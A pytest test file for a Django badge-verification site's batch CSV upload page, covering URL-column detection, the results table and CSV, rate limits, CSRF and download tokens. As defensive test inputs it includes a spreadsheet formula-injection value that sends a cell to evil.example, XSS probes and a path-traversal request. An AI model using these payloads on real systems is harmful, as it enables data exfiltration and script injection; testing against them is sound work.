"""The batch verification page (/verify/batch): a CSV of badge URLs as applicant-tracking systems export it, the
results table, and the results CSV (formulas neutralised), with the page's limits and protections."""

import csv
import io
import re

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client

from badges.services import award_revoke
from badges.verification.batch_csv import BatchCsvError, batch_csv_parse
from tests.badges.verification.issued import issue

pytestmark = pytest.mark.django_db

PAGE = "/verify/batch"


@pytest.fixture(autouse=True)
def _generous_limits(settings):
    settings.VERIFY_BATCH_THROTTLE_RATE = "100000/minute"


def upload(client, content: str | bytes, name: str = "applicants.csv"):
    data = content.encode() if isinstance(content, str) else content
    return client.post(PAGE, {"file": SimpleUploadedFile(name, data, content_type="text/csv")})


def table(response) -> list[list[str]]:
    html = response.content.decode()
    body = html.split("<tbody>", 1)[1].split("</tbody>", 1)[0]
    rows = re.findall(r"<tr[^>]*>(.*?)</tr>", body, re.S)
    return [
        [re.sub(r"<[^>]+>|\s+", " ", cell).strip() for cell in re.findall(r"<td[^>]*>(.*?)</td>", row, re.S)]
        for row in rows
    ]


def results_csv(client, response) -> tuple[bytes, list[list[str]]]:
    href = re.search(r'id="batch-download" href="([^"]+)"', response.content.decode()).group(1)
    download = client.get(href)
    assert download.status_code == 200 and download["Content-Type"].startswith("text/csv")
    assert "attachment" in download["Content-Disposition"] and download["Cache-Control"].startswith("no-store")
    return download.content, list(csv.reader(io.StringIO(download.content.decode("utf-8-sig"))))


def test_the_form_is_linked_from_the_single_verification_page(client):
    assert 'href="/verify/batch"' in client.get("/verify").content.decode()
    page = client.get(PAGE)
    assert page.status_code == 200 and 'name="file"' in page.content.decode()
    assert "csrfmiddlewaretoken" in page.content.decode() and page["Cache-Control"].startswith("no-store")
    assert 'id="batch-results"' not in page.content.decode()


def test_a_french_semicolon_export_with_a_bom_gives_a_row_per_applicant(client):
    good, revoked = issue(), issue(email="bob@example.org")
    award_revoke(actor=None, award=revoked, reason="Issued in error")
    lines = [
        "Nom;Profil LinkedIn;Lien du badge;Courriel",
        f"Ada;https://linkedin.example/ada;{good.ob2_assertion['id']};ada@example.org",
        "",
        f"Bob;https://linkedin.example/bob;{revoked.ob2_assertion['id']};bob@example.org",
        "Eve;;javascript:alert(1);eve@example.org",
        "Mallory;;<script>alert(1)</script>;m@example.org",
        "Zoe;;;zoe@example.org",
        ";;;",
        "Yan;;https://badges.example.invalid/assertions/1;yan@example.org",  # a host that cannot be reached
    ]
    response = upload(client, "\ufeff" + "\r\n".join(lines))
    assert response.status_code == 200
    html = response.content.decode()
    rows = table(response)
    assert [(r[0], r[2]) for r in rows] == [
        ("2", "✓ Valid"),
        ("4", "✗ Not valid"),
        ("5", "? Not checked"),
        ("6", "? Not checked"),
        ("7", "? Not checked"),
        ("9", "? Could not check"),
    ]
    assert rows[0][1] == good.ob2_assertion["id"] and rows[0][3] == good.badge_class.name
    assert rows[0][4] == good.badge_class.issuer.name
    assert "410" in rows[1][5] or "revoked" in rows[1][5]
    assert "http:// or https://" in rows[2][5] and rows[4][5] == "No badge URL in this row."
    assert 'href="javascript' not in html and "<script>alert(1)" not in html and "&lt;script&gt;" in html
    assert "1 valid, 1 not valid, 1 could not be checked, 3 not checked." in html
    assert "revoked" in rows[1][5] and "signature holds" in rows[0][5]


def test_the_results_csv_neutralises_formulas_and_matches_the_table(client):
    good = issue()
    content = "\n".join(
        [
            "Candidate,Badge URL",
            f"Ada,{good.ob2_assertion['id']}",
            'Eve,"=HYPERLINK(""https://evil.example/?""&A1,""click"")"',
            "Mal,@SUM(1+1)",
            "Tab,+1-2",
        ]
    )
    response = upload(client, content)
    raw, rows = results_csv(client, response)
    assert raw.startswith("\ufeff".encode())
    assert rows[0] == ["Row", "URL", "Verdict", "Badge", "Issuer", "Reason"]
    assert rows[1][:5] == ["2", good.ob2_assertion["id"], "Valid", good.badge_class.name, good.badge_class.issuer.name]
    assert [r[1] for r in rows[2:]] == ['\'=HYPERLINK("https://evil.example/?"&A1,"click")', "'@SUM(1+1)", "'+1-2"]
    assert all(not cell.startswith(("=", "+", "-", "@")) for r in rows for cell in r)
    assert [r[2] for r in rows[2:]] == ["Not checked"] * 3


def test_a_plain_list_of_urls_one_per_line_keeps_commas_and_semicolons_in_urls(client):
    urls = ["https://badges.example.invalid/a?x=1;y=2", "https://badges.example.invalid/b,c", ""]
    assert [r.url for r in batch_csv_parse(content="\n".join(urls).encode())] == urls[:2]
    long = batch_csv_parse(content=b"https://example.org/" + b"a" * 2100)
    assert long[0].problem == "The URL is longer than 2,048 characters."
    rows = batch_csv_parse(content=b"https://example.org/1\r\n\r\n  https://example.org/2  \r\nnot a url\r\n")
    assert [(r.line, r.url, bool(r.problem)) for r in rows] == [
        (1, "https://example.org/1", False),
        (3, "https://example.org/2", False),
        (4, "not a url", True),
    ]


@pytest.mark.parametrize(
    ("content", "expected"),
    [
        (b"Name,Profile link,Badge\nAda,https://p.example/ada,https://b.example/1\n", "https://b.example/1"),
        (b"Nom\tURL de l'insigne\nAda\thttps://b.example/1\n", "https://b.example/1"),
        (b"Name,Notes,Whatever\nAda,n/a,https://b.example/1\n", "https://b.example/1"),  # found by its content
        (b"Ada,https://b.example/1\n", "https://b.example/1"),  # no header, several columns
        (b'"https://b.example/1",Ada Lovelace\n', "https://b.example/1"),  # URL first, then other cells
        (b"https://b.example/1\tAda\n", "https://b.example/1"),
        ("Prénom;Lien\nAda;https://b.example/1\n".encode("cp1252"), "https://b.example/1"),  # Excel on Windows
    ],
)
def test_the_url_column_is_found(content, expected):
    assert [r.url for r in batch_csv_parse(content=content)] == [expected]


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"", "empty"),
        (b"\n \n", "empty"),
        (b"Name,Email\nAda,ada@example.org\n", "No column of badge URLs"),
        (b"Badge URL\r\n\r\n", "no rows below it"),
        (b"\x89PNG\r\n\x1a\n\x00\x00\x00", "not a CSV text file"),
        (b"url\n" + b"https://example.org/x\n" * 101, "101 rows; at most 100"),
    ],
)
def test_unusable_files_are_refused_with_the_reason(client, content, message):
    with pytest.raises(BatchCsvError, match=message):
        batch_csv_parse(content=content)
    response = upload(client, content)
    assert response.status_code == 400 and message in response.content.decode()


def test_more_than_100_rows_verifies_nothing_and_spends_nothing(client, settings):
    settings.VERIFY_BATCH_THROTTLE_RATE = "3/minute"
    assert upload(client, "url\n" + "https://example.org/x\n" * 101).status_code == 400
    ok = upload(client, "url\n" + "https://example.invalid/x\n" * 3)
    assert ok.status_code == 200 and len(table(ok)) == 3


def test_the_page_spends_one_verification_per_url_row_and_answers_429(client, settings):
    settings.VERIFY_BATCH_THROTTLE_RATE = "4/minute"
    three = "url\n" + "\n".join(f"https://example.invalid/{n}" for n in range(3))
    assert upload(client, three).status_code == 200
    refused = upload(client, three)
    assert refused.status_code == 429 and int(refused["Retry-After"]) >= 1
    assert "Too many verifications" in refused.content.decode()
    assert upload(client, "url\nnot a url\n").status_code == 200  # rows that are not URLs are not verified


def test_csrf_and_the_upload_cap(settings):
    strict = Client(enforce_csrf_checks=True)
    response = strict.post(PAGE, {"file": SimpleUploadedFile("a.csv", b"https://example.org/1")})
    assert response.status_code == 403
    settings.VERIFY_BATCH_UPLOAD_MAX_BYTES = 100
    big = Client().post(PAGE, {"file": SimpleUploadedFile("a.csv", b"https://example.org/1\n" * 20)})
    assert big.status_code == 413 and "100-byte limit" in big.content.decode()
    assert Client().post(PAGE, {}).status_code == 400


def test_the_results_download_needs_the_token_and_expires(client):
    response = upload(client, "https://example.invalid/1\n")
    href = re.search(r'id="batch-download" href="([^"]+)"', response.content.decode()).group(1)
    token = href.rsplit("/", 1)[1].removesuffix(".csv")
    assert len(token) == 32
    assert client.get(href).status_code == 200
    assert client.get(f"/verify/batch/{token[:-1]}A.csv").status_code == 404
    assert client.get("/verify/batch/..%2f..%2fsecret.csv").status_code == 404
    from django.core.cache import cache

    cache.delete(f"laurel:verify-batch:{token}")
    assert client.get(href).status_code == 404
    assert client.post(href).status_code == 405
